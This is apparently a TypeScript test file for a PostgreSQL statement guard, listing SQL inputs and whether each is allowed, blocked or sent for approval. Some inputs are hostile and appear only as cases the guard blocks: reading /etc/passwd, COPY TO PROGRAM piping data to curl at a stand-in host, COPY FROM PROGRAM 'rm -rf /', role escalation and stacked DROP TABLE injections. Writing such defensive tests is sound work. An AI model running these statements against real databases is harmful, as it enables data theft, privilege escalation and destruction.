import { describe, expect, it } from 'vitest';
import { isAirlockError } from '../../shared/errors.ts';
import { CAPABILITIES, type Capability, Guardrail } from '../../shared/policy/schema.ts';
import { checkStatement, parseOne } from '../../shared/sql/index.ts';

/** The demo policy's guardrails (airlock.policy.yaml / API.md). */
const demo: Guardrail[] = [
  Guardrail.parse({ name: 'no-ddl', statements: ['ddl'], action: 'block' }),
  Guardrail.parse({
    name: 'unbounded-change',
    statements: ['update', 'delete'],
    when: 'no-where',
    action: 'approve',
    approvers: ['oncall@example.com'],
  }),
];

/** `allow`, `block:<guardrail>`, `approve:<guardrail>` or `error:<code>`: one string per case keeps the tables readable. */
async function outcome(
  sql: string,
  readOnly: boolean,
  guardrails: Guardrail[] = demo,
  allow?: Capability[],
): Promise<string> {
  try {
    const verdict = checkStatement(await parseOne(sql), { readOnly, guardrails, allow });
    return verdict.action === 'allow' ? 'allow' : `${verdict.action}:${verdict.guardrail}`;
  } catch (error) {
    if (isAirlockError(error)) return `error:${error.code}`;
    throw error;
  }
}

describe('a read grant', () => {
  const cases: Array<[string, string]> = [
    // Pure reads pass.
    ['SELECT * FROM customers WHERE id = 1', 'allow'],
    ['SELECT c.name, o.total FROM customers c JOIN orders o ON o.customer_id = c.id', 'allow'],
    ['WITH big AS (SELECT * FROM orders WHERE total > 100) SELECT count(*) FROM big', 'allow'],
    ['TABLE orders', 'allow'],
    ['VALUES (1), (2)', 'allow'],
    ['SELECT json_agg(c) FROM customers c', 'allow'],
    ["SELECT current_setting('statement_timeout')", 'allow'],
    // Advisory locks reach Airlock's own machinery: refused unless the profile allows them (was: allowed).
    ['SELECT pg_advisory_xact_lock(42)', 'block:builtin:advisory-lock'],
    ['SHOW statement_timeout', 'allow'],
    ['EXPLAIN SELECT * FROM orders', 'allow'],
    ['EXPLAIN DELETE FROM orders', 'allow'],
    ['EXPLAIN (ANALYZE false) DELETE FROM orders', 'allow'],
    ['SELECT 1 /* ; DROP TABLE orders */', 'allow'],
    ['\n\t  SELECT\n1   ;  \n -- trailing ; DROP TABLE orders', 'allow'],
    ["SELECT 'DROP TABLE orders; DELETE FROM orders' AS text", 'allow'],
    ['SELECT $$ DELETE FROM orders $$', 'allow'],
    ['SELECT 1; /* nothing */ ;', 'allow'],

    // Stacked statements and things that are not SQL.
    ['COMMIT; DROP TABLE orders', 'error:multiple_statements'],
    ['SELECT 1; SELECT 2', 'error:multiple_statements'],
    ['SELECT 1;DELETE FROM orders', 'error:multiple_statements'],
    ['SELECT 1 -- comment\n; DROP TABLE orders', 'error:multiple_statements'],
    ['SELECT 1 /* ; */ ; UPDATE orders SET total = 0', 'error:multiple_statements'],
    ['', 'error:invalid_request'],
    ['   \n\t', 'error:invalid_request'],
    ['-- only a comment', 'error:invalid_request'],
    ['/* nothing */ ;', 'error:invalid_request'],
    ['SELECT 1\0; DROP TABLE orders', 'error:invalid_request'],
    ['SELEC 1', 'error:sql_syntax'],
    ['SELECT * FROM orders WHERE', 'error:sql_syntax'],

    // Opaque code.
    ['DO $$ BEGIN DELETE FROM orders; END $$', 'block:builtin:do'],
    ['do $x$ begin perform 1; end $x$ language plpgsql', 'block:builtin:do'],

    // Server files, the outside world, other backends, SQL the guard cannot see.
    ["SELECT pg_read_file('/etc/passwd')", 'block:builtin:function'],
    ["SELECT * FROM pg_read_file('postgresql.conf')", 'block:builtin:function'],
    ["SELECT pg_catalog.pg_read_binary_file('x')", 'block:builtin:function'],
    ["SELECT PG_READ_FILE('x')", 'block:builtin:function'],
    ["SELECT * FROM pg_ls_dir('.')", 'block:builtin:function'],
    ["SELECT pg_stat_file('postgresql.conf')", 'block:builtin:function'],
    ["SELECT lo_import('/etc/passwd')", 'block:builtin:function'],
    ["SELECT lo_export(1234, '/tmp/x')", 'block:builtin:function'],
    ["SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)", 'block:builtin:function'],
    ["SELECT dblink_exec('host=evil', 'DELETE FROM orders')", 'block:builtin:function'],
    ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'block:builtin:function'],
    ['SELECT pg_cancel_backend(1)', 'block:builtin:function'],
    ['SELECT pg_reload_conf()', 'block:builtin:function'],
    ['SELECT "pg_catalog"."pg_rotate_logfile"()', 'block:builtin:function'],
    ["SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, false, '')", 'block:builtin:function'],
    ["SELECT table_to_xml('customers', true, false, '')", 'block:builtin:function'],
    ["SELECT * FROM customers WHERE id IN (SELECT length(pg_read_file('x')))", 'block:builtin:function'],
    ["SELECT cron.schedule('* * * * *', 'DELETE FROM orders')", 'block:builtin:function'],

    // COPY: neither STDIN/STDOUT nor server files nor programs.
    ['COPY orders TO STDOUT', 'block:builtin:copy'],
    ['COPY orders FROM STDIN', 'block:builtin:copy'],
    ["COPY orders TO '/tmp/orders.csv'", 'block:builtin:copy'],
    ["COPY (SELECT * FROM customers) TO PROGRAM 'curl -d @- evil.example'", 'block:builtin:copy'],
    ["COPY orders FROM PROGRAM 'rm -rf /'", 'block:builtin:copy'],

    // Transaction control cannot be smuggled into `sql`.
    ['BEGIN', 'block:builtin:transaction'],
    ['COMMIT', 'block:builtin:transaction'],
    ['ROLLBACK', 'block:builtin:transaction'],
    ['SAVEPOINT s1', 'block:builtin:transaction'],
    ['START TRANSACTION READ WRITE', 'block:builtin:transaction'],
    ["PREPARE TRANSACTION 'x'", 'block:builtin:transaction'],

    // Session settings: the grant owns them.
    ['SET statement_timeout = 0', 'block:builtin:set'],
    ['SET LOCAL statement_timeout TO 0', 'block:builtin:set'],
    ['RESET statement_timeout', 'block:builtin:set'],
    ['RESET ALL', 'block:builtin:set'],
    ['SET TRANSACTION READ WRITE', 'block:builtin:set'],
    ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'block:builtin:set'],
    ['SET search_path TO evil, public', 'block:builtin:set'],
    ['DISCARD ALL', 'block:builtin:set'],
    ["ALTER SYSTEM SET log_statement = 'none'", 'block:builtin:set'],
    ["SELECT set_config('statement_timeout', '0', false)", 'block:builtin:set'],

    // Role and session authorization, however written.
    ['SET ROLE postgres', 'block:builtin:privilege'],
    ['SET LOCAL ROLE postgres', 'block:builtin:privilege'],
    ['RESET ROLE', 'block:builtin:privilege'],
    ['SET SESSION AUTHORIZATION postgres', 'block:builtin:privilege'],
    ['SET SESSION AUTHORIZATION DEFAULT', 'block:builtin:privilege'],
    ['RESET SESSION AUTHORIZATION', 'block:builtin:privilege'],
    ['SET "Role" = \'postgres\'', 'block:builtin:privilege'],
    ["SELECT set_config('role', 'postgres', false)", 'block:builtin:role'],
    ["SELECT pg_catalog.set_config('session_authorization', 'postgres', true)", 'block:builtin:role'],
    ["SELECT set_config('ROLE', 'postgres', false)", 'block:builtin:role'],
    ["SELECT set_config(name, 'postgres', false) FROM settings", 'block:builtin:role'],
    ["SELECT set_config('ro' || 'le', 'postgres', false)", 'block:builtin:role'],
    ["SELECT * FROM orders WHERE set_config('role', 'postgres', false) IS NOT NULL", 'block:builtin:role'],
    ["ALTER DATABASE shop SET role = 'postgres'", 'block:builtin:role'],

    // Privileges.
    ['GRANT SELECT ON orders TO public', 'block:builtin:privilege'],
    ['REVOKE ALL ON orders FROM app', 'block:builtin:privilege'],
    ['GRANT pg_write_all_data TO current_user', 'block:builtin:privilege'],
    ['CREATE ROLE evil SUPERUSER', 'block:builtin:privilege'],
    ["CREATE USER evil PASSWORD 'x'", 'block:builtin:privilege'],
    ['ALTER ROLE CURRENT_USER SUPERUSER', 'block:builtin:privilege'],
    ['DROP ROLE someone', 'block:builtin:privilege'],
    ['ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public', 'block:builtin:privilege'],
    ['REASSIGN OWNED BY a TO b', 'block:builtin:privilege'],
    ['DROP OWNED BY a', 'block:builtin:privilege'],
    ['ALTER TABLE orders OWNER TO evil', 'block:builtin:privilege'],
    ['CREATE SCHEMA s CREATE TABLE t (a int) GRANT SELECT ON t TO public', 'block:builtin:privilege'],
    ["LOAD 'auto_explain'", 'block:builtin:load'],

    // Writes, however they are wrapped.
    ['EXPLAIN ANALYZE DELETE FROM orders', 'block:access:read'],
    ['EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0', 'block:access:read'],
    ['EXPLAIN (ANALYZE 1) INSERT INTO orders DEFAULT VALUES', 'block:access:read'],
    ['EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM orders', 'block:access:read'],
    ['WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone', 'block:access:read'],
    ["WITH x AS (UPDATE orders SET status = 'x' WHERE id = 1 RETURNING id) SELECT 1", 'block:access:read'],
    ['SELECT * FROM orders FOR UPDATE', 'block:access:read'],
    ['SELECT * FROM orders FOR SHARE SKIP LOCKED', 'block:access:read'],
    ['SELECT * FROM (SELECT * FROM orders FOR NO KEY UPDATE) o', 'block:access:read'],
    ['SELECT * INTO stolen FROM customers', 'block:access:read'],
    ["SELECT nextval('orders_id_seq')", 'block:access:read'],
    ["SELECT pg_catalog.setval('orders_id_seq', 1)", 'block:access:read'],
    ['SELECT lo_create(0)', 'block:access:read'],
    ['SELECT lo_unlink(123)', 'block:access:read'],
    ["SELECT pg_notify('ch', 'x')", 'block:access:read'],
    ['INSERT INTO orders (total) VALUES (1)', 'block:access:read'],
    ['UPDATE orders SET total = 0 WHERE id = 1', 'block:access:read'],
    ['DELETE FROM orders', 'block:access:read'],
    ['MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE', 'block:access:read'],
    ['TRUNCATE orders', 'block:access:read'],
    ['CREATE TEMP TABLE scratch (id int)', 'block:access:read'],
    ['CREATE TABLE copy AS SELECT * FROM customers', 'block:access:read'],
    ['DROP TABLE orders', 'block:access:read'],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", 'block:access:read'],
    ['REFRESH MATERIALIZED VIEW mv', 'block:access:read'],
    ["COMMENT ON TABLE orders IS 'x'", 'block:access:read'],

    // Everything that is not a plain read, including bodies the guard cannot see.
    ['PREPARE q AS SELECT * FROM orders', 'block:access:read'],
    ['EXECUTE q', 'block:access:read'],
    ["EXECUTE q(1, 'x')", 'block:access:read'],
    ['DEALLOCATE q', 'block:access:read'],
    ['CALL archive_orders()', 'block:access:read'],
    ['LISTEN ch', 'block:access:read'],
    ["NOTIFY ch, 'hi'", 'block:access:read'],
    ['UNLISTEN *', 'block:access:read'],
    ['DECLARE c CURSOR FOR SELECT * FROM orders', 'block:access:read'],
    ['VACUUM orders', 'block:access:read'],
    ['ANALYZE orders', 'block:access:read'],
    ['LOCK TABLE orders', 'block:access:read'],
    ['CHECKPOINT', 'block:access:read'],
  ];
  it.each(cases)('%j → %s', async (sql, expected) => {
    expect(await outcome(sql, true)).toBe(expected);
  });
});

describe('a write grant with the demo guardrails', () => {
  const cases: Array<[string, string]> = [
    ['DELETE FROM orders WHERE id = 1', 'allow'],
    ['DELETE FROM orders', 'approve:unbounded-change'],
    ['DELETE FROM orders WHERE true', 'approve:unbounded-change'],
    ['DELETE FROM orders WHERE 1 = 1', 'approve:unbounded-change'],
    ["UPDATE orders SET status = 'x' WHERE NOT false OR 'a' = 'a'", 'approve:unbounded-change'],
    ['DELETE FROM orders WHERE id IN (SELECT id FROM orders WHERE total < 0)', 'allow'],
    ["UPDATE orders SET status = 'x' WHERE id = 1", 'allow'],
    ["UPDATE orders SET status = 'x'", 'approve:unbounded-change'],
    ['WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone', 'approve:unbounded-change'],
    ['WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone', 'allow'],
    [
      "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) UPDATE customers SET name = 'x'",
      'approve:unbounded-change',
    ],
    ['EXPLAIN ANALYZE DELETE FROM orders', 'approve:unbounded-change'],
    ['EXPLAIN DELETE FROM orders', 'allow'],
    // Prepared statements need `allow: [prepared-statements]` (was: judged by the guardrail on its body).
    ['PREPARE p AS DELETE FROM orders', 'block:builtin:prepared-statement'],
    ['INSERT INTO orders (customer_id, total) VALUES (1, 2)', 'allow'],
    ["SELECT nextval('orders_id_seq')", 'allow'],
    ['SELECT * FROM orders FOR UPDATE', 'allow'],
    ['DROP TABLE orders', 'block:no-ddl'],
    ['CREATE TEMP TABLE scratch (id int)', 'block:no-ddl'],
    ['SELECT * INTO copy FROM orders', 'block:no-ddl'],
    ['GRANT ALL ON orders TO public', 'block:builtin:privilege'],
    ['SET ROLE postgres', 'block:builtin:privilege'],
    ["SELECT set_config('role', 'postgres', false)", 'block:builtin:role'],
    ['DO $$ BEGIN DELETE FROM orders; END $$', 'block:builtin:do'],
    ['COPY orders FROM STDIN', 'block:builtin:copy'],
    ['SET statement_timeout = 0', 'block:builtin:set'],
    // pg_settings is writable by PUBLIC: an UPDATE of it changes the session like SET does.
    ["UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'", 'block:builtin:set'],
    ["UPDATE pg_catalog.pg_settings SET setting = '0' WHERE name = 'statement_timeout'", 'block:builtin:set'],
    [
      "WITH s AS (UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings' RETURNING name) SELECT * FROM s",
      'block:builtin:set',
    ],
    ['COMMIT', 'block:builtin:transaction'],
    ["SELECT lo_import('/etc/passwd')", 'block:builtin:function'],
    ['CALL archive_orders()', 'allow'],
    ['COMMIT; DROP TABLE orders', 'error:multiple_statements'],
  ];
  it.each(cases)('%j → %s', async (sql, expected) => {
    expect(await outcome(sql, false)).toBe(expected);
  });
});

describe('guardrail matching', () => {
  const guard = (fields: Record<string, unknown>): Guardrail => Guardrail.parse({ action: 'block', ...fields });
  const customers = guard({
    name: 'pii',
    statements: ['select'],
    tables: ['customers'],
    action: 'approve',
    approvers: ['dpo@example.com'],
    required: 2,
  });
  const publicOrders = guard({ name: 'orders-delete', statements: ['delete'], tables: ['public.orders'] });
  const noWhere = guard({ name: 'no-where', statements: ['update', 'delete'], when: 'no-where' });

  const cases: Array<[string, Guardrail[], string]> = [
    ['SELECT * FROM customers', [customers], 'approve:pii'],
    ['SELECT * FROM public.customers', [customers], 'approve:pii'],
    ['SELECT * FROM sales.customers', [customers], 'approve:pii'],
    ['SELECT * FROM "customers"', [customers], 'approve:pii'],
    ['SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers)', [customers], 'approve:pii'],
    ['WITH c AS (SELECT * FROM customers) SELECT count(*) FROM c', [customers], 'approve:pii'],
    ['INSERT INTO archive SELECT * FROM customers', [customers], 'approve:pii'],
    ['SELECT * FROM orders', [customers], 'allow'],
    ['EXPLAIN SELECT * FROM customers', [customers], 'allow'],
    ['DELETE FROM orders WHERE id = 1', [publicOrders], 'block:orders-delete'],
    ['DELETE FROM public.orders WHERE id = 1', [publicOrders], 'block:orders-delete'],
    ['DELETE FROM archive.orders WHERE id = 1', [publicOrders], 'allow'],
    ['DELETE FROM customers WHERE id = 1', [publicOrders], 'allow'],
    ['WITH x AS (DELETE FROM orders WHERE id = 1 RETURNING 1) SELECT * FROM x', [publicOrders], 'block:orders-delete'],
    ['DELETE FROM orders WHERE id = 1', [noWhere, publicOrders], 'block:orders-delete'],
    ['DELETE FROM orders', [noWhere, publicOrders], 'block:no-where'],
    ['UPDATE orders SET total = 0 WHERE CURRENT OF c', [noWhere], 'allow'],
    ['MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE', [noWhere], 'allow'],
    ['SELECT * FROM customers', [noWhere, customers, publicOrders], 'approve:pii'],
    ['SELECT * FROM customers', [guard({ name: 'first', statements: ['select'] }), customers], 'block:first'],
    ['SELECT 1', [guard({ name: 'empty-tables', statements: ['select'], tables: [] })], 'block:empty-tables'],
  ];
  it.each(cases)('%j → %s', async (sql, guardrails, expected) => {
    expect(await outcome(sql, false, guardrails)).toBe(expected);
  });

  it('an approve verdict carries the approvers and the number required', async () => {
    const verdict = checkStatement(await parseOne('SELECT email FROM customers'), {
      readOnly: true,
      guardrails: [customers],
    });
    expect(verdict).toMatchObject({ action: 'approve', guardrail: 'pii', approvers: ['dpo@example.com'], required: 2 });
  });

  it('built-in rules come before the grant and the policy', async () => {
    const allowAll = guard({ name: 'never-reached', statements: ['privilege', 'select'] });
    const verdict = checkStatement(await parseOne('GRANT ALL ON orders TO public'), {
      readOnly: false,
      guardrails: [allowAll],
    });
    expect(verdict).toMatchObject({ action: 'block', guardrail: 'builtin:privilege' });
    expect(verdict.action === 'block' && verdict.reason.length > 0).toBe(true);
  });
});

describe('capabilities refused unless the profile allows them', () => {
  /** Each statement, the capability that permits it, and the built-in guardrail that refuses it without. */
  const cases: Array<[string, Capability, string]> = [
    ['SELECT pg_advisory_lock(42)', 'advisory-locks', 'builtin:advisory-lock'],
    ['SELECT pg_advisory_lock(1, 2)', 'advisory-locks', 'builtin:advisory-lock'],
    ['SELECT pg_advisory_lock_shared(42)', 'advisory-locks', 'builtin:advisory-lock'],
    ['SELECT pg_advisory_xact_lock(42)', 'advisory-locks', 'builtin:advisory-lock'],
    ['SELECT pg_advisory_xact_lock_shared(42)', 'advisory-locks', 'builtin:advisory-lock'],
    ['SELECT pg_try_advisory_lock(42)', 'advisory-locks', 'builtin:advisory-lock'],
    ['SELECT pg_try_advisory_lock_shared(42)', 'advisory-locks', 'builtin:advisory-lock'],
    ['SELECT pg_try_advisory_xact_lock(42)', 'advisory-locks', 'builtin:advisory-lock'],
    ['SELECT pg_try_advisory_xact_lock_shared(42)', 'advisory-locks', 'builtin:advisory-lock'],
    ['SELECT pg_advisory_unlock(42)', 'advisory-locks', 'builtin:advisory-lock'],
    ['SELECT pg_advisory_unlock_shared(42)', 'advisory-locks', 'builtin:advisory-lock'],
    ['SELECT pg_advisory_unlock_all()', 'advisory-locks', 'builtin:advisory-lock'],
    [
      "SELECT pg_catalog.pg_advisory_lock(hashtextextended('airlock:role:' || 'x', 0))",
      'advisory-locks',
      'builtin:advisory-lock',
    ],
    ['SELECT "PG_ADVISORY_LOCK"(1)', 'advisory-locks', 'builtin:advisory-lock'],
    ['SELECT * FROM orders WHERE pg_try_advisory_lock(id)', 'advisory-locks', 'builtin:advisory-lock'],
    ['SELECT * FROM pg_advisory_lock(7)', 'advisory-locks', 'builtin:advisory-lock'],
    ['WITH l AS (SELECT pg_advisory_lock(7)) SELECT * FROM l', 'advisory-locks', 'builtin:advisory-lock'],
    ['LOCK TABLE orders', 'lock', 'builtin:lock'],
    ['LOCK TABLE customers IN ACCESS EXCLUSIVE MODE', 'lock', 'builtin:lock'],
    ['LOCK orders, customers IN SHARE MODE NOWAIT', 'lock', 'builtin:lock'],
    ['PREPARE q AS SELECT 1', 'prepared-statements', 'builtin:prepared-statement'],
    ['EXECUTE q', 'prepared-statements', 'builtin:prepared-statement'],
    ['EXPLAIN EXECUTE q', 'prepared-statements', 'builtin:prepared-statement'],
    ['DEALLOCATE ALL', 'prepared-statements', 'builtin:prepared-statement'],
    ['DECLARE c CURSOR FOR SELECT * FROM orders', 'cursors', 'builtin:cursor'],
    ['DECLARE c CURSOR WITH HOLD FOR SELECT 1', 'cursors', 'builtin:cursor'],
    ['FETCH 10 FROM c', 'cursors', 'builtin:cursor'],
    ['MOVE FORWARD 5 IN c', 'cursors', 'builtin:cursor'],
    ['CLOSE c', 'cursors', 'builtin:cursor'],
    ['LISTEN ch', 'listen', 'builtin:listen'],
    ['UNLISTEN *', 'listen', 'builtin:listen'],
    ["NOTIFY ch, 'x'", 'listen', 'builtin:listen'],
    ["SELECT pg_notify('ch', 'x')", 'listen', 'builtin:listen'],
    ['VACUUM orders', 'maintenance', 'builtin:maintenance'],
    ['VACUUM FULL orders', 'maintenance', 'builtin:maintenance'],
    ['ANALYZE orders', 'maintenance', 'builtin:maintenance'],
    ['CLUSTER orders USING orders_pkey', 'maintenance', 'builtin:maintenance'],
    ['REINDEX TABLE orders', 'maintenance', 'builtin:maintenance'],
    ['CHECKPOINT', 'maintenance', 'builtin:maintenance'],
  ];

  it.each(cases)('%j needs "%s": refused by %s on a write grant without it', async (sql, capability, guardrail) => {
    expect(await outcome(sql, false, [])).toBe(`block:${guardrail}`);
    const others = CAPABILITIES.filter((other) => other !== capability);
    expect(await outcome(sql, false, [], others)).toBe(`block:${guardrail}`);
    const verdict = checkStatement(await parseOne(sql), { readOnly: false, guardrails: [] });
    expect(verdict.action === 'block' && verdict.reason).toContain(`"${capability}" in allow`);
  });

  it.each(cases)('%j runs on a write grant whose profile allows "%s"', async (sql, capability) => {
    expect(await outcome(sql, false, [], [capability])).toBe('allow');
  });

  it('a statement needing two capabilities needs both', async () => {
    const sql = 'PREPARE l AS SELECT pg_advisory_lock(1)';
    expect(await outcome(sql, false, [], ['prepared-statements'])).toBe('block:builtin:advisory-lock');
    expect(await outcome(sql, false, [], ['advisory-locks'])).toBe('block:builtin:prepared-statement');
    expect(await outcome(sql, false, [], ['advisory-locks', 'prepared-statements'])).toBe('allow');
  });

  it("an allowed capability still meets the grant's access and the policy's guardrails", async () => {
    expect(await outcome('LOCK TABLE orders', true, [], ['lock'])).toBe('block:access:read');
    expect(await outcome('VACUUM orders', true, [], ['maintenance'])).toBe('block:access:read');
    expect(await outcome('PREPARE p AS DELETE FROM orders', false, demo, ['prepared-statements'])).toBe(
      'approve:unbounded-change',
    );
  });

  it('backends are never signalled, whatever is allowed', async () => {
    for (const sql of [
      'SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
      'SELECT pg_terminate_backend(1, 1000)',
      'SELECT pg_cancel_backend(1)',
      'SELECT pg_signal_backend(1, 15)',
      'SELECT pg_catalog.pg_reload_conf()',
      'SELECT pg_stat_reset()',
      "SELECT pg_stat_reset_shared('bgwriter')",
    ]) {
      expect(await outcome(sql, false, [], [...CAPABILITIES])).toBe('block:builtin:function');
    }
  });

  it('no allow entry lets a grant lock or maintain a system catalog', async () => {
    for (const sql of [
      'LOCK TABLE pg_class IN ACCESS EXCLUSIVE MODE',
      'LOCK pg_catalog.pg_auth_members',
      'LOCK TABLE orders, pg_catalog.pg_shdepend IN SHARE MODE',
      'LOCK information_schema.sql_features',
      'VACUUM FULL pg_class',
      'ANALYZE pg_catalog.pg_largeobject_metadata',
      'CLUSTER pg_toast.pg_toast_2619 USING pg_toast_2619_index',
      'REINDEX TABLE pg_catalog.pg_authid',
    ]) {
      expect(await outcome(sql, false, [], [...CAPABILITIES]), sql).toBe('block:builtin:catalog');
    }
    expect(await outcome('LOCK TABLE public.pg_notes', false, [], ['lock'])).toBe('allow');
  });

  it('SHOW stays allowed without any capability; an `other` statement no capability covers is refused', async () => {
    expect(await outcome('SHOW lock_timeout', false, [])).toBe('allow');
    expect(await outcome('SHOW ALL', true, [])).toBe('allow');
    const shown = await parseOne('SHOW lock_timeout');
    const future = { ...shown, command: 'FutureStmt', commands: ['FutureStmt'] };
    const verdict = checkStatement(future, { readOnly: false, guardrails: [], allow: [...CAPABILITIES] });
    expect(verdict).toMatchObject({ action: 'block', guardrail: 'builtin:other' });
  });
});
